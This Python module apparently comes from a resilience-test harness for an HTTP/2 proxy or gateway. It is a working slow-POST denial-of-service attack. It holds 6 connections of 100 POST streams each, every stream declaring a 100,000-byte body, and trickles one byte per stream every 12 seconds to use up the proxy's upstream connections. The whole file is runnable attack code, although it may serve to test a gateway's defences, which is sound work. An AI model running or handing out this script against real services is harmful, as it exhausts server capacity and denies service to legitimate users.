"""A stranger posts to paths of the upstream and lets the bodies come a byte in twelve seconds: a proxy that takes a connection to
the upstream for each has none left for others. The gateway needs an upstream (proxy.upstream)."""
import time

from raw_h2 import DATA, END_HEADERS, Closed, Connection, request

POINT = 9
CONNECTIONS = 6
STREAMS = 100  # of each connection
PAUSE_S = 12


def begin(target, counts):
    connection = Connection(target.h2c or target.tls, tls=target.h2c is None, timeout_s=5)
    streams = []
    for _ in range(STREAMS):
        streams.append(connection.headers(request("/echo", "POST", ("content-length", "100000")), END_HEADERS))
        connection.frame(DATA, 0, streams[-1], b"s")
        counts["requests"] += 1
        counts["bytes"] += 1
    return connection, streams


def attack(target, stop):
    counts = {"requests": 0, "bytes": 0, "connections_lost": 0}
    held = []
    due = 0
    while not stop.is_set():
        if time.monotonic() < due:
            stop.wait(0.1)
            continue
        due = time.monotonic() + PAUSE_S
        for connection, streams in list(held):
            before = connection.orderly
            for stream in streams:
                connection.frame(DATA, 0, stream, b"s")
            counts["bytes"] += len(streams)
            if before and not connection.orderly:
                counts["connections_lost"] += 1
                held.remove((connection, streams))
        while len(held) < CONNECTIONS and not stop.is_set():
            try:
                held.append(begin(target, counts))
            except (Closed, OSError):
                counts["connections_lost"] += 1
                break
    for connection, _ in held:
        connection.socket.close()
    return counts
